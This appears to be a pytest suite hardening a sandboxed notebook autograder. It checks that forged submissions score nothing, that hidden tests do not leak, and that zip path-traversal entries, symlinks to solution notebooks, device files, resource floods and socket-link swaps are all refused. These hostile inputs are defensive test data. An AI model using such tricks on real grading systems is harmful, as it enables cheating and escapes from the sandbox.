    """Issue 22's classes of forgery each score 0 in a real class run of 9.3 and of 9.5 (where
    the tests also hand the student's functions live stand-ins); the reference keeps full marks."""
    lesson, course, subs, report = forged_class
    assert set(report["graded"]) == set(subs), report["failed"]
    got = {s: _tests_only(per, lesson) for s, per in course.scores(lesson).items()}
    wrong = {s: (got.get(s), want) for s, (_, want) in subs.items() if want and got.get(s) != want}
    assert not wrong, f"{lesson} graded wrongly (got, expected): {wrong}"


# The limit course/docs/INSTRUCTOR.md states ("What is not closed"): a record of how the code ran that
# leaves no trace in the values can be forged by patching the stand-ins in the kernel.
FORGEABLE_BY_RECORDS = {"9.5": {"test_train_step"}}


def test_patched_stand_in_records_gain_only_the_cell_the_threat_model_names(forged_class):
    """The attacker (bug (a) plus records patched to say "no grad") scores no cell above its
    control (the bug alone) but test_train_step, and regains that one: if this attack reaches
    further, or no longer works, INSTRUCTOR.md's account of it is wrong and this fails (it is one
    attack on one clause; the other record-only clauses INSTRUCTOR.md lists are not graded here)."""
    lesson, course, subs, _ = forged_class
    if "x_standins" not in subs:
        pytest.skip(f"lesson {lesson}'s tests build no stand-ins in the kernel")
    got = {s: _tests_only(per, lesson) for s, per in course.scores(lesson).items()}
    full = S.expected_points(lesson, set())
    control, attacker = got["ctl_standins"], got["x_standins"]
    named = FORGEABLE_BY_RECORDS[lesson]
    assert {c for c in control if control[c] < full[c]} == named, "the control's bug is not caught"
    more = {c: (attacker[c], control[c]) for c in control if attacker[c] > control[c]}
    assert set(more) == named, f"patched records gained {more}; INSTRUCTOR.md names {named}"
    assert all(attacker[c] == full[c] for c in named)


def test_no_hidden_test_line_in_the_feedback_or_outputs_of_the_class(forged_class):
    lesson, course, subs, _ = forged_class
    hidden, shown = hidden_lines(lesson), list(_shown(course, lesson))
    assert {s for s, _, _ in shown} == set(subs), "a student has no feedback"
    leaked = {}
    for student, text, own in shown:
        lines = [ln for ln in hidden if ln in text and ln not in own]
        if lines:
            leaked[student] = lines[:3]
    assert not leaked, f"{lesson}: hidden-test lines in a student's feedback or notebook: {leaked}"


# ---------------------------------------------------------------------------------------------
# collect refuses tricks


def test_collect_refuses_symlinks_devices_escapes_and_oversized(tmp_path):
    src = tmp_path / "inbox"
    src.mkdir()
    nb = ROOT / "release" / LESSON / f"{LESSON}.ipynb"
    good = src / "good" / "workspace" / LESSON
    good.mkdir(parents=True)
    good.joinpath(f"{LESSON}.ipynb").write_bytes(nb.read_bytes())
    linked = src / "linked" / "workspace" / LESSON
    linked.mkdir(parents=True)
    (linked / f"{LESSON}.ipynb").symlink_to(ROOT / "source_notebooks" / LESSON / f"{LESSON}.ipynb")
    (src / "linkdir").symlink_to(good.parent.parent)
    big = src / "big" / LESSON
    big.mkdir(parents=True)
    with open(big / f"{LESSON}.ipynb", "wb") as f:
        f.truncate((instructor.collect_report.__globals__["NOTEBOOK_CAP_MB"] + 1) * 2**20)
    dots = src / "..."
    dots.mkdir()
    (dots / f"{LESSON}.ipynb").write_bytes(nb.read_bytes())
    with zipfile.ZipFile(src / "zipper.zip", "w") as zf:
        zf.write(nb, f"work/{LESSON}.ipynb")
        sym = zipfile.ZipInfo(f"a/{LESSON}.ipynb")
        sym.external_attr = (stat.S_IFLNK | 0o777) << 16
        zf.writestr(sym, str(ROOT / "source_notebooks" / LESSON / f"{LESSON}.ipynb"))
        dev = zipfile.ZipInfo(f"b/{LESSON}.ipynb")
        dev.external_attr = (stat.S_IFCHR | 0o666) << 16
        zf.writestr(dev, "")
        zf.writestr(f"/abs/{LESSON}.ipynb", "{}")
        zf.writestr(f"../../up/{LESSON}.ipynb", "{}")
    course = tmp_path / "course"
    got, refused = instructor.collect_report(src, [LESSON], root=course)
    assert got == {"good": [LESSON], "zipper": [LESSON]}, (got, refused)
    assert (
        course / "submitted" / "zipper" / LESSON / f"{LESSON}.ipynb"
    ).read_bytes() == nb.read_bytes()
    text = "\n".join(refused)
    for needle in ["linked: ", "linkdir: the entry is a symlink", "big: ", "larger than",
                   "...: no safe student id", "is a symlink", "device", "escapes"]:  # fmt: skip
        assert needle in text, f"no refusal mentioning {needle!r}:\n{text}"
    assert not (tmp_path / "up").exists() and not (course / "submitted" / "...").exists()
    assert sorted(p.name for p in (course / "submitted").iterdir()) == ["good", "zipper"]


def test_preflight_stops_a_class_whose_solution_does_not_get_full_marks(tmp_path):
    """A grader whose solution loses points (here: a solution cell broken in the course's source;
    in the field: a sandbox that cannot import helpers) would grade every student as if they had
    written nothing: the class run stops before grading anyone, and says why and what to do."""
    course = Course(tmp_path / "course", [LESSON])
    course.release(LESSON)
    src = course.root / "source_notebooks" / LESSON / f"{LESSON}.ipynb"
    nb = nbformat.read(src, as_version=4)
    cell = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "p_info")
    cell.source = cell.source.replace("### BEGIN SOLUTION", "### BEGIN SOLUTION\n    return 0.0", 1)
    nbformat.write(nb, src)
    course.submit(LESSON, "dave", ROOT / "release" / LESSON / f"{LESSON}.ipynb")
    with pytest.raises(SystemExit, match=r"preflight failed.*solution scored.*Fix:"):
        instructor.autograde(LESSON, workers=1, timeout=60, root=course.root)
    assert not (course.root / "autograded" / "dave").exists(), "a student was graded anyway"
    assert not list((course.root / "submitted").glob("canary*")), "a canary was left behind"


@pytest.mark.parametrize(
    "solution, empty, says",
    [
        ({"ok": True, "score": 10.0, "max_score": 10.0}, {"ok": True, "score": 0.0, "max_score": 10.0}, None),
        ({"ok": True, "score": 7.0, "max_score": 10.0}, {"ok": True, "score": 0.0, "max_score": 10.0}, "solution scored 7/10"),
        ({"ok": True, "score": 10.0, "max_score": 10.0}, {"ok": True, "score": 3.0, "max_score": 10.0}, "release scored 3/10"),
        ({"ok": False, "reason": "the kernel died"}, {"ok": True, "score": 0.0, "max_score": 10.0}, "grading failed (the kernel died)"),
    ],
)  # fmt: skip
def test_preflight_says_which_canary_failed_and_cleans_up(tmp_path, monkeypatch, solution, empty,
                                                          says):  # fmt: skip
    """Every branch of the canary's check (the grading itself is tested above, in a real run)."""
    from course.grading import runner

    for folder in ("source_notebooks", "release"):
        (tmp_path / folder / LESSON).mkdir(parents=True)
        (tmp_path / folder / LESSON / f"{LESSON}.ipynb").write_text("{}")
    (tmp_path / "gradebook.db").write_text("")
    recs = {"canary+solution": solution, "canary+empty": empty}
    monkeypatch.setattr(runner, "_grade_one", lambda lesson, sid, *a: recs[sid])
    why = runner.preflight(LESSON, tmp_path, [], 60)
    if says is None:
        assert why is None
    else:
        assert why and says in why and "Fix:" in why, why
    assert not list((tmp_path / "submitted").glob("canary*")), "a canary was left behind"


def test_autograde_refuses_without_a_sandbox_unless_trusted(tmp_path, monkeypatch):
    from course.grading import runner, sandbox

    monkeypatch.setattr(sandbox, "bwrap_path", lambda: None)
    with pytest.raises(SystemExit, match="bubblewrap.*install|install.*bubblewrap"):
        runner.autograde(LESSON, root=tmp_path)
    assert "--trusted-students" in sandbox.FIX and "user namespaces" in sandbox.FIX


def test_floods_of_ipc_shm_and_tmp_stop_at_their_caps_and_reach_no_host_folder(tmp_path):
    import asyncio

    from jupyter_client import BlockingKernelClient

    from course.grading import sandbox

    limits = sandbox.Limits()
    loop = asyncio.new_event_loop()
    km = sandbox.kernel_manager_class(limits)(kernel_name="python3")
    loop.run_until_complete(km.start_kernel(cwd=str(tmp_path)))
    host_shm = set(os.listdir("/dev/shm")) if os.path.isdir("/dev/shm") else set()
    try:
        kc = BlockingKernelClient(connection_file=km.connection_file)  # the grader's copy
        kc.load_connection_file()
        kc.start_channels()
        kc.wait_for_ready(timeout=60)
        out = []
        reply = kc.execute_interactive(FLOOD, timeout=300, output_hook=lambda m: out.append(
            m["content"].get("text", "")))  # fmt: skip
        assert reply["content"]["status"] == "ok", reply["content"]
        text = "".join(out)
        wrote = {m[0]: int(m[1]) for m in re.findall(r"WROTE (\w+) (\d+)", text)}
        assert wrote["ipc"] <= limits.ipc_kb * 1024, text
        assert wrote["shm"] <= limits.shm_mb * 2**20, text
        assert wrote["tmp"] <= limits.tmp_mb * 2**20, text
        assert wrote["root"] == wrote["dev"] == wrote["run"] == 0, text  # read-only mounts
        assert "WROTE connection-file" not in text, text
        # while the kernel lives: the host's ipc folder holds only what the grader put there
        host = sorted(os.listdir(km._sandbox_dir))
        assert host == ["client.json", "kernel.json", "links", "seed"], host
        links = os.path.join(km._sandbox_dir, "links")  # k-<port> -> /proc/<grader>/fd/<n>
        assert all(re.fullmatch(rf"/proc/{os.getpid()}/fd/\d+", os.readlink(os.path.join(links, n)))
                   for n in os.listdir(links)), os.listdir(links)  # fmt: skip
        assert os.path.getsize(os.path.join(km._sandbox_dir, "kernel.json")) < 4096
        assert not os.listdir(os.path.join(km._sandbox_dir, "seed"))
        if host_shm or os.path.isdir("/dev/shm"):
            assert not {f for f in os.listdir("/dev/shm") if f.startswith("flood")} - host_shm
        kc.stop_channels()
    finally:
        loop.run_until_complete(km.shutdown_kernel(now=True))
        loop.close()


def test_the_kernel_imports_the_helpers_the_sandbox_mounts(tmp_path, monkeypatch):
    """A grader whose ``helpers`` is another copy than the one the venv's editable install names
    (a second clone, a mutation run's copy) gives its kernel that copy, the one it mounts."""
    import asyncio
    import sys

    from jupyter_client import BlockingKernelClient

    from course.grading import sandbox

    clone = tmp_path / "clone"
    (clone / "helpers").mkdir(parents=True)
    (clone / "helpers" / "__init__.py").write_text("MARK = 'the grader copy'\n")
    monkeypatch.syspath_prepend(str(clone))
    for name in [m for m in sys.modules if m == "helpers" or m.startswith("helpers.")]:
        monkeypatch.delitem(sys.modules, name)
    assert sandbox.helpers_dir() == (clone / "helpers").resolve()
    work = tmp_path / "work"
    work.mkdir()
    loop = asyncio.new_event_loop()
    km = sandbox.kernel_manager_class(sandbox.Limits())(kernel_name="python3")
    loop.run_until_complete(km.start_kernel(cwd=str(work)))
    try:
        kc = BlockingKernelClient(connection_file=km.connection_file)
        kc.load_connection_file()
        kc.start_channels()
        kc.wait_for_ready(timeout=60)
        out = []
        reply = kc.execute_interactive(
            "import helpers; print(helpers.MARK, helpers.__file__)", timeout=60,
            output_hook=lambda m: out.append(m["content"].get("text", "")))  # fmt: skip
        assert reply["content"]["status"] == "ok", reply["content"]
        assert "".join(out).split() == ["the", "grader", "copy",
                                        str((clone / "helpers" / "__init__.py").resolve())]  # fmt: skip
        kc.stop_channels()
    finally:
        loop.run_until_complete(km.shutdown_kernel(now=True))
        loop.close()


def test_socket_paths_are_checked_before_the_kernel_starts(tmp_path, monkeypatch, request):
    """At the longest TMPDIR the check allows, the kernel and its grading server bind their
    sockets; one byte longer, the manager refuses at once and says how to fix it."""
    import asyncio
    import tempfile

    from course.grading import boundary, sandbox

    # the longest name the check counts is the grading server's (boundary.install_server's)
    assert boundary.SOCKET_NAME.fullmatch("course-0123456789ab.sock")
    assert sandbox.LONGEST_SOCKET_NAME == len("/course-0123456789ab.sock")
    room = sandbox.SUN_PATH_MAX - sandbox.LONGEST_SOCKET_NAME - len("/nbg-sandbox-12345678")
    base = Path(tempfile.mkdtemp(prefix="s", dir="/tmp"))  # short: pytest's own folder is long
    request.addfinalizer(lambda: __import__("shutil").rmtree(base, ignore_errors=True))
    at_limit = base / ("p" * (room - len(str(base)) - 1))
    over = base / ("q" * (room - len(str(base))))
    at_limit.mkdir()
    over.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(over))
    with pytest.raises(RuntimeError, match=r"over the 107 .* fix: set TMPDIR to a short folder"):
        sandbox.kernel_manager_class(sandbox.Limits())(kernel_name="python3")
    assert not os.listdir(over), "the refused manager left its folder behind"
    monkeypatch.setattr(tempfile, "tempdir", str(at_limit))
    loop = asyncio.new_event_loop()
    km = sandbox.kernel_manager_class(sandbox.Limits())(kernel_name="python3")
    loop.run_until_complete(km.start_kernel(cwd=str(tmp_path)))
    try:
        path = boundary.install_server(km.connection_file, timeout=120)
        assert len(os.fsencode(path)) == sandbox.SUN_PATH_MAX, path
    finally:
        loop.run_until_complete(km.shutdown_kernel(now=True))
        loop.close()


def _tree(root, depth: int, last: str, host_sock: str):
    """root/d0/.../d{depth-1}/s where s is ``last``: a socket, a link of some kind, or another
    file type. Returns the in-root path and the listening socket (kept open)."""
    folder = root
    for i in range(depth):
        folder = folder / f"d{i}"
    folder.mkdir(parents=True, exist_ok=True)
    target = folder / "s"
    srv = None
    if last in ("socket", "relative link", "link to a link"):
        real = folder / ("s" if last == "socket" else "real")
        srv = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        srv.bind(str(real))
        if last == "relative link":
            target.symlink_to("real")
        elif last == "link to a link":
            (folder / "mid").symlink_to("real")
            target.symlink_to("mid")
    elif last == "absolute link to a host socket":
        target.symlink_to(host_sock)
    elif last == "fifo":
        os.mkfifo(target)
    elif last == "file":
        target.write_text("")
    elif last == "folder":
        target.mkdir()
    path = "/" + "/".join([*(f"d{i}" for i in range(depth)), "s"])
    return path, srv


LAST = ["socket", "absolute link to a host socket", "relative link", "link to a link", "fifo",
        "file", "folder", "missing"]  # fmt: skip


@pytest.mark.parametrize("depth", [0, 1, 3])
@pytest.mark.parametrize("last", LAST)
def test_open_socket_reaches_only_a_socket_by_no_link(tmp_path, unix_listener, depth, last):
    """The class of names a student can plant where the grader expects a socket: every kind of
    file and link at the last name (only a real socket is opened)."""
    from course.grading import sandbox

    path, srv = _tree(tmp_path, depth, last, unix_listener.getsockname())
    try:
        if last == "socket":
            fd = sandbox.open_socket(str(tmp_path), path)
            assert stat.S_ISSOCK(os.fstat(fd).st_mode)
            os.close(fd)
        else:
            with pytest.raises(OSError):
                os.close(sandbox.open_socket(str(tmp_path), path))
    finally:
        if srv is not None:
            srv.close()


@pytest.mark.parametrize("depth", [1, 2, 4])
def test_open_socket_follows_no_link_at_any_folder_of_the_path(tmp_path, depth):
    """Each folder on the way replaced by a link to the real one, one at a time (and '..')."""
    from course.grading import sandbox

    path, srv = _tree(tmp_path / "real", depth, "socket", "")
    try:
        assert os.close(sandbox.open_socket(str(tmp_path / "real"), path)) is None
        for i in range(depth):
            root = tmp_path / f"linked{i}"
            parts = [f"d{j}" for j in range(depth)]
            (root / Path(*parts[:i])).mkdir(parents=True, exist_ok=True)
            (root / Path(*parts[: i + 1])).symlink_to(tmp_path / "real" / Path(*parts[: i + 1]))
            with pytest.raises(OSError):
                sandbox.open_socket(str(root), path)
        for bad in ["", "/", "/d0/../d0/s", "../s"]:
            with pytest.raises(OSError):
                sandbox.open_socket(str(tmp_path / "real"), bad)
    finally:
        srv.close()


def test_a_kernel_that_turns_its_sockets_into_links_is_reached_only_as_itself(tmp_path,
                                                                              unix_listener):  # fmt: skip
    """A real sandboxed kernel, its grading server installed at its start as the grader does, runs
    the class run's links attacker; a new client made from the grader's connection file still
    reaches the kernel (through the inodes the manager holds), the grading channel is refused (the
    server's name is now a link), and the host socket gets no connection."""
    import asyncio

    from jupyter_client import BlockingKernelClient

    from course.grading import boundary, sandbox

    loop = asyncio.new_event_loop()
    km = sandbox.kernel_manager_class(sandbox.Limits())(kernel_name="python3")
    loop.run_until_complete(km.start_kernel(cwd=str(tmp_path)))
    try:
        kc = BlockingKernelClient(connection_file=km.connection_file)
        kc.load_connection_file()
        kc.start_channels()
        kc.wait_for_ready(timeout=60)
        server = boundary.install_server(km.connection_file, timeout=60)
        code = LINKS.replace("HOSTSOCK_", unix_listener.getsockname())
        out = []
        reply = kc.execute_interactive(code, timeout=60, output_hook=lambda m: out.append(
            m["content"].get("text", "")))  # fmt: skip
        assert reply["content"]["status"] == "ok" and "LINKED 5 1" in "".join(out), out
        kc.stop_channels()
        fresh = BlockingKernelClient(connection_file=km.connection_file)
        fresh.load_connection_file()
        fresh.start_channels()
        fresh.wait_for_ready(timeout=60)
        got = []
        reply = fresh.execute_interactive("print(6 * 7)", timeout=60, output_hook=lambda m: got.append(
            m["content"].get("text", "")))  # fmt: skip
        assert reply["content"]["status"] == "ok" and "42" in "".join(got), got
        fresh.stop_channels()
        with pytest.raises(boundary.ChannelError, match="not a socket"):
            boundary.Channel(km.connection_file, timeout=20, server=server)
        with pytest.raises(BlockingIOError):
            unix_listener.accept()
    finally:
        loop.run_until_complete(km.shutdown_kernel(now=True))
        loop.close()
    assert not km._socket_fds


def test_a_sandboxed_kernel_is_never_restarted_in_place():
    """After a start the connection file and ip name the grader's links, which a relaunched kernel
    cannot bind: restarting is refused (the grading code starts a new manager instead)."""
    import asyncio

    from course.grading import sandbox

    km = sandbox.kernel_manager_class(sandbox.Limits())(kernel_name="python3")
    with pytest.raises(RuntimeError, match="not restarted"):
        asyncio.run(km.restart_kernel(now=True))
